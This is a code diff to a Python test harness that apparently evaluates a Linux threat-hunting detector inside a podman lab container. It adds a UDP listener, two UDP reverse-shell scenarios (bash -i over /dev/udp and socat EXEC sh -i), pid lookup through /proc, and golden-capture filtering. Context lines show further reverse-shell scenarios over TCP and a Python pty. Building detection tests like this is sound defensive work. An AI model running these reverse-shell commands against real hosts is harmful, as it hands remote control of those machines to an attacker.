@@ -15,6 +15,7 @@ from __future__ import annotations
 
 import contextlib
 import os
+import re
 import secrets
 import shlex
 import socket
@@ -79,6 +80,47 @@ class Listener:
         self.close_all()
 
 
+class UdpListener:
+    """A bounded UDP socket on 198.18.0.1: receives (so the shells' datagrams are not answered with
+    ICMP port unreachable), remembers at most ``max_peers`` senders, closes after ``lifetime``
+    seconds or on exit. Sends nothing."""
+
+    def __init__(self, lifetime: float = 90.0, max_peers: int = 64) -> None:
+        self.lifetime = lifetime
+        self.max_peers = max_peers
+        self.peers: set[tuple[str, int]] = set()
+        self.sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+        self.sock.bind((GATEWAY, 0))
+        self.sock.settimeout(0.2)
+        self.port = self.sock.getsockname()[1]
+        self._stop = threading.Event()
+        self._thread = threading.Thread(target=self._serve, daemon=True)
+
+    def _serve(self) -> None:
+        end = time.monotonic() + self.lifetime
+        while not self._stop.is_set() and time.monotonic() < end:
+            try:
+                _, peer = self.sock.recvfrom(65536)
+            except TimeoutError:
+                continue
+            except OSError:
+                break
+            if len(self.peers) < self.max_peers:
+                self.peers.add(peer)
+        with contextlib.suppress(OSError):
+            self.sock.close()
+
+    def __enter__(self) -> UdpListener:
+        self._thread.start()
+        return self
+
+    def __exit__(self, *exc: object) -> None:
+        self._stop.set()
+        self._thread.join(timeout=5)
+        with contextlib.suppress(OSError):
+            self.sock.close()
+
+
 def podman(*args: str, check: bool = True, timeout: float = 60) -> subprocess.CompletedProcess[str]:
     return subprocess.run(["podman", *args], capture_output=True, text=True, check=check, timeout=timeout)
 
@@ -116,7 +158,9 @@ class Scenario:
     marker: str = ""  # a command-line substring that finds the scenario's first process
 
 
-def scenarios(port: int) -> tuple[Scenario, ...]:
+def scenarios(port: int, udp_port: int = 0) -> tuple[Scenario, ...]:
+    """The shells and benign cases; with ``udp_port``, also two UDP reverse shells (both speak first:
+    bash -i prints its prompt, socat's ``sh -i`` too) to :class:`UdpListener`."""
     a = f"{GATEWAY}"
     py_pty = (
         "import socket,os,pty;s=socket.socket();s.connect(('HOST',PORT));"
@@ -139,6 +183,10 @@ def scenarios(port: int) -> tuple[Scenario, ...]:
     )
     py_pty, perl, nginx, poller = (
         t.replace("HOST", a).replace("PORT", str(port)) for t in (py_pty, perl, nginx, poller)
+    )
+    udp = (
+        Scenario("bash /dev/udp", True, f"exec bash -c 'exec bash -i >& /dev/udp/{a}/{udp_port} 0>&1'", "/dev/udp/"),
+        Scenario("socat udp exec", True, f"exec {BIN}/socat UDP:{a}:{udp_port} EXEC:'/bin/sh -i',stderr", "socat UDP:"),
     )
     return (
         Scenario("bash /dev/tcp under nginx", True, f"exec {BIN}/nginx -c {shlex.quote(nginx)}", "nginx -c import"),
@@ -165,7 +213,7 @@ def scenarios(port: int) -> tuple[Scenario, ...]:
             f"exec ssh -o BatchMode=yes -o StrictHostKeyChecking=no -p {port} probe@{a} </dev/null >/dev/null 2>&1",
             "probe@",
         ),
-    )
+    ) + (udp if udp_port else ())
 
 
 def start(container: str, s: Scenario, index: int) -> None:
@@ -183,6 +231,27 @@ def scenario_pids(container: str) -> dict[int, set[int]]:
         pid = path.split("/")[2] if path.count("/") >= 3 else ""
         if pid.isdigit() and value.isdigit():
             result.setdefault(int(value), set()).add(int(pid))
+    return result
+
+
+def host_scenario_pids(container_id: str) -> dict[int, set[int]]:
+    """Like :func:`scenario_pids`, from the host that runs the container (root): scenario index ->
+    host pids whose environment carries ``HUNT_SCENARIO=index`` and whose cgroup names the container."""
+    result: dict[int, set[int]] = {}
+    for entry in os.scandir("/proc"):
+        if not entry.name.isdigit():
+            continue
+        try:
+            with open(f"/proc/{entry.name}/cgroup", "rb") as fh:
+                if container_id.encode() not in fh.read():
+                    continue
+            with open(f"/proc/{entry.name}/environ", "rb") as fh:
+                env = fh.read()
+        except OSError:
+            continue
+        for var in env.split(b"\0"):
+            if var.startswith(b"HUNT_SCENARIO=") and var[14:].isdigit():
+                result.setdefault(int(var[14:]), set()).add(int(entry.name))
     return result
 
 
@@ -270,3 +339,76 @@ def precision_recall(results: list[Outcome], detections) -> dict[str, float]:
         "precision": len(true_pos) / len(flagged) if flagged else 1.0,
         "precision_high": sum(d.pid in bad_pids for d in high) / len(high) if high else 1.0,
     }
+
+
+def capture_goldens(
+    out: Path, lab_inventory: Path, local_inventory: Path, cases, container: str, container_id: str
+) -> None:
+    """Write real collector output for the goldens (tests/golden/hunt/README.md): the lab host over
+    SSH and this machine (local), each as ``nonce`` + newline + the bytes the host sent, with the
+    scenario pids of each view (``HARDEN_HUNT_CAPTURE=DIR`` in the lab test)."""
+    import json
+
+    from hardening.hunt.linux import new_hunt_collector
+    from hardening.hunt.run import HuntOptions
+    from hardening.inventory import load_inventory
+    from hardening.transport import run_script
+
+    out.mkdir(parents=True, exist_ok=True)
+    for tag, inventory in (("lab_ns_inside", lab_inventory), ("host_ns", local_inventory)):
+        (target,) = load_inventory(inventory)
+        collector = new_hunt_collector()
+        run = run_script(target, collector.script, HuntOptions(timeout=30))
+        body = run.stdout if tag != "host_ns" else keep_lab_records(run.stdout, collector.nonce, os.getpid())
+        (out / f"{tag}.out").write_bytes(collector.nonce.encode() + b"\n" + body)
+    for tag, pids in (("lab_ns_inside", scenario_pids(container)), ("host_ns", host_scenario_pids(container_id))):
+        names = {cases[i].name: sorted(p) for i, p in sorted(pids.items())}
+        (out / f"{tag}.scenarios.json").write_text(json.dumps(names, indent=1) + "\n")
+
+
+_PID_RECORD = re.compile(rb"^/proc/(\d+)/")
+
+
+def keep_lab_records(raw: bytes, nonce: str, stop_pid: int) -> bytes:
+    """A host capture with only the lab's processes: those in a container, podman's conmon, kernel
+    threads, and the collector with its ancestors up to ``stop_pid`` (the test). The records of every
+    other process of the machine that ran the lab (its session tooling, whose command lines are not
+    ours to publish) are dropped from the per-process sections; nothing else changes."""
+    from hardening.facts.sections import parse_sections
+    from hardening.hunt.linux import parse_snapshot
+
+    snap = parse_snapshot(parse_sections(raw, nonce))
+    chain: set[int] = set()
+    self_pid = int(parse_sections(raw, nonce).text("hunt.self"))
+    for pid in [self_pid, *(p.pid for p in snap.ancestors(self_pid))]:
+        chain.add(pid)
+        if pid == stop_pid:
+            break
+    kids = snap.children()
+    todo = [self_pid]
+    while todo:
+        for k in kids.get(todo.pop(), ()):
+            chain.add(k)
+            todo.append(k)
+    keep = {
+        p.pid
+        for p in snap.processes.values()
+        if p.container is not None or p.comm == "conmon" or p.pid == 2 or p.ppid == 2 or p.pid in chain
+    }
+    marker = re.compile(rb"^@@" + nonce.encode() + rb" ([BE]) (\S+)[^\n]*\n", re.MULTILINE)
+    out, pos, section = [], 0, b""
+    for m in marker.finditer(raw):
+        body = raw[pos : m.start()]
+        if section in (b"hunt.stat", b"hunt.uid", b"hunt.cgroup", b"hunt.nets"):
+            body = b"\n".join(r for r in body.split(b"\n") if _kept(r, keep))
+        elif section in (b"hunt.cmdline", b"hunt.links"):
+            body = b"\0".join(r for r in body.split(b"\0") if _kept(r, keep))
+        out += [body, m.group(0)]
+        pos, section = m.end(), (m.group(2) if m.group(1) == b"B" else b"")
+    out.append(raw[pos:])
+    return b"".join(out)
+
+
+def _kept(record: bytes, keep: set[int]) -> bool:
+    m = _PID_RECORD.match(record)
+    return m is None or int(m.group(1)) in keep
